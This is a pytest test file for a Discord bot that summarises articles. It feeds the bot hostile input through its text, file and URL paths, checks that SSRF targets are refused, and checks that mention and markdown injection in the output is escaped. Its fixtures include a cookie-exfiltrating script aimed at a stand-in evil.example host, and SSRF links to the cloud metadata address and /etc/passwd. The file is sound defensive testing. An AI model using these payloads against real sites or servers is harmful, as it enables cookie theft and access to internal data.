"""Hostile input through every `/article` path, URL fetching refusals (SSRF), and hostile
article text in the output: asserted on the exact payloads the fake Discord receives."""

from __future__ import annotations

import contextlib
import http.server
import itertools
import json
import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

import pytest
from conftest import FakeAnalyzer, running_bot, sub

from summarizer.api import AnalysisOptions
from summarizer.types import Actor, Article, Briefing, Bullet, Quote, Topic
from tests.fake_discord import Exchange, FakeDiscord, message_violations
from tests.fake_discord.server import OTHER_CHANNEL_ID, OWNER_ID

PROSE = (
    "The harbour council approved a new ferry line on Tuesday after a long debate about "
    "costs and the timetable for the service. Mayor Anna Berg said the line would open in "
    "the spring and would carry commuters across the bay in twenty minutes."
)
FRENCH = (
    "Le conseil municipal a approuvé mardi une nouvelle ligne de ferry après un long débat "
    "sur les coûts et les horaires du service. La maire a dit que la ligne sera ouverte au "
    "printemps et que les trajets dureront vingt minutes."
)
SCRIPTED_HTML = (
    "<!doctype html><html><head><title>Ferry line approved</title>"
    "<script>document.location='http://evil.example/?c='+document.cookie</script>"
    "<style>body{display:none}</style></head><body><article>"
    f"<p>{PROSE}</p><p>{PROSE}</p><script>alert('pwned')</script></article></body></html>"
)
FIVE_MB = ("word " * 1_000_000).encode()


@dataclass(frozen=True)
class Case:
    name: str
    data: str | bytes
    expect: str  # a phrase of the error shown, or "" when the article must be accepted
    content_type: str = "text/plain"


def text_of(data: str | bytes) -> str:
    return data if isinstance(data, str) else data.decode("utf-8", "surrogateescape")


# One table, three paths. `/article text` receives a string (Discord caps the option at
# 6,000 characters, which the bot checks again itself); file and url receive bytes.
CASES = [
    Case("empty", b"", "empty"),
    Case("whitespace only", b"  \n\t \n  ", "empty"),
    Case("binary", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "binary"),
    Case("invalid UTF-8", PROSE.encode()[:50] + b"\xc3\x28\xff" + PROSE.encode(), "UTF-8"),
    Case("NUL and control characters",
         ("\x00\x07\x1b[31m" + PROSE + "\x00\x08\x0b\x7f").encode(), ""),
    Case("5 MB", FIVE_MB, "limit"),
    Case("a 100,000-character word", ("a" * 100_000).encode(), "100,000-character run"),
    Case("HTML with scripts", SCRIPTED_HTML.encode(), "", "text/html"),
    Case("not English", FRENCH.encode(), "does not look like English"),
    Case("unbalanced quotation marks",
         (f'The mayor said "we will build it. {PROSE} “And then, she added.').encode(), ""),
    Case("only quotation marks", ('"“”‘’«»„ ' * 200).encode(), "too short to analyse"),
]
TEXT_EXPECT = {  # what `/article text` says where the string path differs
    "binary": "does not look like English",
    "invalid UTF-8": "",  # a str has no invalid UTF-8; the lone surrogate below is dropped
    "5 MB": "at most 6,000 characters",
    "a 100,000-character word": "at most 6,000 characters",
}


def inert_everywhere(exchange: Exchange) -> list[str]:
    """Reasons a payload of `exchange` could ping, link a mention or break the layout."""
    problems = []
    for message in exchange.messages:
        problems.extend(message_violations(message))
        text = str(message.get("content") or "") + str(message.get("embeds") or "")
        if re.search(r"@(everyone|here)", text):
            problems.append("a live @everyone/@here")
        if re.search(r"<(@[!&]?|#|/\w+:)\d+>", text):
            problems.append("live mention syntax")
        # Markdown renders in content, descriptions and field values (not footers; a title's
        # markdown stays in the title): a fence there must be escaped.
        rendered = [str(message.get("content") or "")]
        for embed in message.get("embeds") or []:
            rendered.append(embed.get("description") or "")
            rendered.extend(f.get("value") or "" for f in embed.get("fields") or [])
        if any("```" in part for part in rendered):
            problems.append("an unescaped code fence")
    return problems


def check_answer(exchange: Exchange, case_name: str, expect: str) -> None:
    assert inert_everywhere(exchange) == [], (case_name, exchange.messages)
    if expect:
        assert exchange.ephemeral, (case_name, exchange.final)
        assert expect in exchange.final["content"], (case_name, exchange.final["content"])
        assert "Something went wrong" not in exchange.final["content"], case_name
        return
    assert not exchange.ephemeral, (case_name, exchange.final)
    shown = str(exchange.final["embeds"])
    for leftover in ("alert(", "document.cookie", "display:none", "\\x00", "\x00", "\x1b"):
        assert leftover not in shown, (case_name, leftover)


async def others_still_served(fake: FakeDiscord) -> None:
    other = await fake.command("summary", user_id=OWNER_ID + 77, channel_id=OTHER_CHANNEL_ID)
    assert not other.ephemeral and message_violations(other.final) == []


async def test_article_text_table(fake: FakeDiscord, tmp_path: Path) -> None:
    cases = [*CASES, Case("lone surrogate", PROSE + "\ud800", ""),
             Case("5,000-character word", "a" * 5000 + " " + PROSE, "5,000-character run")]
    async with running_bot(fake, FakeAnalyzer(), tmp_path / "s.db"):
        for case in cases:
            value = (case.data if isinstance(case.data, str)
                     else case.data.decode("latin-1")[:5000] if case.name == "binary"
                     else text_of(case.data))
            exchange = await fake.command("article", sub("text", {
                "name": "text", "type": 3, "value": value}))
            check_answer(exchange, case.name, TEXT_EXPECT.get(case.name, case.expect))
        await others_still_served(fake)


async def test_article_file_table(fake: FakeDiscord, tmp_path: Path) -> None:
    async with running_bot(fake, FakeAnalyzer(), tmp_path / "s.db"):
        for number, case in enumerate(CASES):
            data = case.data if isinstance(case.data, bytes) else case.data.encode()
            suffix = ".html" if case.content_type == "text/html" else ".txt"
            attachment = fake.add_file(f"case{number}{suffix}", data, case.content_type)
            exchange = await fake.command(
                "article", sub("file", {"name": "attachment", "type": 11,
                                        "value": attachment["id"]}),
                resolved={"attachments": {attachment["id"]: attachment}})
            check_answer(exchange, case.name, case.expect)
        # The 5 MB file was refused from its declared size, never downloaded.
        big = next(n for n, c in enumerate(CASES) if c.name == "5 MB")
        assert not any(r.path == f"/attachments/case{big}.txt" for r in fake.requests)
        await others_still_served(fake)


class _Pages(http.server.BaseHTTPRequestHandler):
    """Serves the table's cases (and slow pages) from a thread, outside the bot's loop."""

    pages: ClassVar[dict[str, tuple[bytes, str]]] = {}
    hits: ClassVar[list[str]] = []
    delay = 0.0

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        if self.path.startswith("/slow"):
            time.sleep(type(self).delay)
        body, content_type = type(self).pages.get(self.path.split("?")[0], (b"", ""))
        if not content_type:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)  # the client may stop reading at its byte cap

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def pages() -> Iterator[tuple[str, type[_Pages]]]:
    handler = type("Pages", (_Pages,), {"pages": {}, "hits": [], "delay": 0.0})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", handler
    finally:
        server.shutdown()
        server.server_close()


async def test_article_url_table(fake: FakeDiscord, tmp_path: Path,
                                 pages: tuple[str, type[_Pages]]) -> None:
    base, handler = pages
    for number, case in enumerate(CASES):
        data = case.data if isinstance(case.data, bytes) else case.data.encode()
        handler.pages[f"/case{number}"] = (data, case.content_type)
    handler.pages["/octet"] = (b"\x00\x01" * 500, "application/octet-stream")
    extra = {"octet": "not an HTML or text page", "blank link": "http://"}
    async with running_bot(fake, FakeAnalyzer(), tmp_path / "s.db"):  # private URLs allowed
        for number, case in enumerate(CASES):
            exchange = await fake.command("article", sub("url", {
                "name": "link", "type": 3, "value": f"{base}/case{number}"}))
            check_answer(exchange, case.name, case.expect)
        octet = await fake.command("article", sub("url", {
            "name": "link", "type": 3, "value": f"{base}/octet"}))
        check_answer(octet, "octet", extra["octet"])
        blank = await fake.command("article", sub("url", {"name": "link", "type": 3,
                                                          "value": "   "}))
        check_answer(blank, "blank link", extra["blank link"])
        await others_still_served(fake)


@pytest.mark.parametrize(("link", "expect"), [
    ("{base}/case0", "loopback"),
    ("http://localhost:{port}/case0", "loopback"),
    ("http://[::1]:{port}/case0", "loopback"),
    ("http://10.0.0.8/", "private"),
    ("http://192.168.1.1/admin", "private"),
    ("http://169.254.169.254/latest/meta-data/", "link-local"),
    ("http://0.0.0.0:{port}/", "unspecified"),
    ("http://224.0.0.1/", "multicast"),
    ("http://[::ffff:127.0.0.1]:{port}/", "loopback"),
    ("file:///etc/passwd", "http://"),
    ("ftp://127.0.0.1/pub/story.txt", "http://"),
    ("javascript:alert(document.cookie)", "http://"),
    ("gopher://127.0.0.1:70/", "http://"),
    ("data:text/html,<p>hi</p>", "http://"),
    ("http://user:pass@example.com/", "user name or password"),
])
async def test_article_url_refuses_private_addresses_and_other_schemes(
        fake: FakeDiscord, tmp_path: Path, pages: tuple[str, type[_Pages]], link: str,
        expect: str) -> None:
    base, handler = pages
    port = base.rsplit(":", 1)[1]
    async with running_bot(fake, FakeAnalyzer(), tmp_path / "s.db", allow_private_urls=False):
        exchange = await fake.command("article", sub("url", {
            "name": "link", "type": 3, "value": link.format(base=base, port=port)}))
    assert exchange.ephemeral and expect in exchange.final["content"], exchange.final
    assert "Something went wrong" not in exchange.final["content"]
    assert handler.hits == []  # nothing was fetched


async def test_url_fetch_runs_off_the_event_loop(fake: FakeDiscord, tmp_path: Path,
                                                 pages: tuple[str, type[_Pages]]) -> None:
    base, handler = pages
    handler.pages["/slow"] = (f"<html><body><article><p>{PROSE}</p></article></body>"
                              "</html>".encode(), "text/html")
    handler.delay = 2.5
    async with running_bot(fake, FakeAnalyzer(), tmp_path / "s.db"):
        slow = await fake.command("article", sub("url", {
            "name": "link", "type": 3, "value": f"{base}/slow"}), wait=False)
        await fake.wait_for(lambda: slow.callback, timeout=3)
        beats = len(fake.heartbeats)
        quick = await fake.command("article", sub("show"), channel_id=OTHER_CHANNEL_ID,
                                   timeout=2)
        await fake.wait_final(slow, timeout=15)
        during = fake.heartbeats[max(0, beats - 1):]
    assert not slow.ephemeral and quick.ack_latency is not None and quick.ack_latency < 1
    assert len(during) >= 4
    gaps = [b - a for a, b in itertools.pairwise(during)]
    assert max(gaps) < 1.5 * fake.heartbeat_interval_ms / 1000, gaps


# Output -----------------------------------------------------------------------------------

HOSTILE = (
    "Title: @everyone <@123456789012345678> ```py\n\n"
    "@everyone and @here: the council met <@123456789012345678> and <@!123456789012345678> "
    "with <@&456456456456456456> in <#789789789789789789> about </ban:1234567890123456789>.\n\n"
    "```python\nimport os  # an unbalanced fence that would swallow the rest of an embed\n\n"
    "**Loud** __underlined__ ~~struck~~ ||spoiler|| `tick` [click me](https://evil.example) "
    "> quoted and # heading and - list with 1. numbers.\n\n"
    + "A very long sentence about the ferry line and its costs, " * 90 + "that never ends.\n\n"
    + PROSE
)


class EchoAnalyzer(FakeAnalyzer):
    """Puts the article's own text into every field of the briefing, as a real model can."""

    def analyse(self, article: Article, options: AnalysisOptions | None = None) -> Briefing:
        options = options or AnalysisOptions()
        texts = [p.text for p in article.paragraphs]
        bullets = tuple(Bullet(t, (n,)) for n, t in enumerate(texts, start=1))
        topics = tuple(Topic(t[:90], 0.5, (n,), bullets[:2]) for n, t in enumerate(texts, 1))
        actors = tuple(Actor(t[:80], "person", t, (t[:50], t[50:90]), 2, (n,))
                       for n, t in enumerate(texts, start=1))
        quotes = tuple(Quote(t[:60], t[:20], t, "direct", n) for n, t in enumerate(texts, 1))
        sections = options.sections
        return Briefing(article=article, models=self.model_info(),
                        summary=bullets if "summary" in sections else None,
                        topics=topics if "topics" in sections else None,
                        actors=actors if "actors" in sections else None,
                        quotes=quotes if "quotes" in sections else None)


async def test_hostile_article_text_never_pings_or_breaks_the_layout(
        fake: FakeDiscord, tmp_path: Path) -> None:
    file = fake.add_file("hostile.txt", HOSTILE.encode(), "text/plain")
    async with running_bot(fake, EchoAnalyzer(), tmp_path / "s.db"):
        set_file = await fake.command(
            "article", sub("file", {"name": "attachment", "type": 11, "value": file["id"]}),
            resolved={"attachments": {file["id"]: file}})
        assert not set_file.ephemeral, set_file.final
        exchanges = [set_file, await fake.command("article", sub("show"))]
        for name in ("summary", "topics", "actors", "quotes", "briefing"):
            exchanges.append(await fake.command(name))
        topics_page = exchanges[3].final["embeds"][0]
        exchanges.append(await fake.command("topic", [
            {"name": "name", "type": 3, "value": "@everyone ```<@123456789012345678>"}]))
        exchanges.append(await fake.command("quotes", [
            {"name": "speaker", "type": 3, "value": "<@&456456456456456456> @here"}]))
    for exchange in exchanges:
        assert exchange.messages, exchange.requests
        assert inert_everywhere(exchange) == [], exchange.messages
        for message in exchange.messages:
            assert message["allowed_mentions"] == {"parse": []}
    text = json.dumps([m for e in exchanges for m in e.messages], ensure_ascii=False)
    # Still readable: escaped rather than deleted.
    assert "@\u200beveryone" in text and "<\u200b@\u200b123456789012345678>" in text
    assert r"\\*\\*Loud\\*\\*" in text and r"\\[click me\\]" in text
    # The topics page lists the article's paragraphs as topics (EchoAnalyzer), cited.
    assert topics_page["title"].startswith("Topics: ") and "(¶1)" in topics_page["description"]
    # The fence in ¶2 swallowed nothing: the last paragraph's bullet is there, as a bullet.
    summary = exchanges[2].final["embeds"][0]["description"]
    assert summary.rstrip().endswith("twenty minutes. (¶5)"), summary[-200:]


async def test_slow_links_neither_starve_others_nor_pile_up(
        fake: FakeDiscord, tmp_path: Path, pages: tuple[str, type[_Pages]]) -> None:
    base, handler = pages
    handler.pages["/slow"] = (f"<html><body><article><p>{PROSE}</p></article></body>"
                              "</html>".encode(), "text/html")
    handler.delay = 3.0

    def url(number: int) -> list[dict[str, Any]]:
        return sub("url", {"name": "link", "type": 3, "value": f"{base}/slow?{number}"})

    async with running_bot(fake, FakeAnalyzer(), tmp_path / "s.db"):
        # Two users fill every fetch thread with slow links...
        slow = [await fake.command("article", url(i), wait=False,
                                   user_id=OWNER_ID + 1 + i // 2) for i in range(4)]
        await fake.wait_for(lambda: all(s.callback for s in slow), timeout=5)
        # ...a third link of the same user is refused at once rather than queued...
        third = await fake.command("article", url(9), user_id=OWNER_ID + 1, timeout=5)
        assert third.ephemeral and "2 links loading" in third.final["content"]
        # ...and another user's pasted text (a database write) is not kept waiting.
        pasted = await fake.command("article", sub("text", {
            "name": "text", "type": 3, "value": PROSE}), user_id=OWNER_ID + 50,
            channel_id=OTHER_CHANNEL_ID, timeout=5)
        assert not pasted.ephemeral
        assert not any(s.messages for s in slow)  # the slow links are still loading
        for exchange in slow:
            await fake.wait_final(exchange, timeout=20)
    assert all(not s.ephemeral for s in slow)
